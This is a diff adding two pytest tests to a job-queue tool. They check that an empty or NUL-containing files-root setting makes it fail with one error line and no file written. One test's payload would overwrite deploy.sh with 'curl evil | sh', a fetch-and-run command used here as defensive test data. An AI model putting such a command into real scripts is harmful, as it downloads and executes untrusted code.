@@ -47,3 +47,33 @@ def test_the_default_root_is_still_made_on_demand(tmp_path: Path) -> None:
     done = run(tmp_path, env, "run", "--until-empty")
     assert done.returncode == 0 and "WARNING" not in done.stderr, done.stderr
     assert (tmp_path / "jobcore-files" / "a.txt").read_text() == "y"
+
+
+def test_an_empty_root_is_a_start_up_error_not_the_working_directory(tmp_path: Path) -> None:
+    """`JOBCORE_FILES_ROOT=${UNSET}` in a unit file: never the folder of jobcore.db."""
+    (tmp_path / "deploy.sh").write_text("echo deploying\n")
+    env = subprocess_env(JOBCORE_FILES_ROOT="")
+    payload = '{"path": "deploy.sh", "content": "curl evil | sh\\n", "overwrite": true}'
+    for args in (("enqueue", "create_file", payload), ("run", "--until-empty")):
+        done = run(tmp_path, env, *args)
+        assert done.returncode == 1 and done.stdout == "", done
+        assert done.stderr.startswith(
+            "Error: bad setting 'root' from JOBCORE_FILES_ROOT: is empty; set it to a folder"
+        ), done.stderr
+        assert len(done.stderr.splitlines()) == 1, done.stderr
+    assert (tmp_path / "deploy.sh").read_text() == "echo deploying\n"
+    assert not (tmp_path / "jobcore.db").exists()  # nothing enqueued
+
+
+def test_a_root_with_a_nul_is_one_error_line_naming_the_setting_and_its_file(
+    tmp_path: Path,
+) -> None:
+    (tmp_path / "jobcore.toml").write_text('[plugins.files]\nroot = "a\\u0000b"\n')
+    done = run(
+        tmp_path, subprocess_env(), "enqueue", "create_file", '{"path": "x", "content": "y"}'
+    )
+    assert done.returncode == 1 and done.stdout == "" and "Traceback" not in done.stderr, done
+    assert done.stderr == (
+        "Error: bad setting 'root' from jobcore.toml [plugins.files]: "
+        "contains a NUL character, which no path can hold\n"
+    )
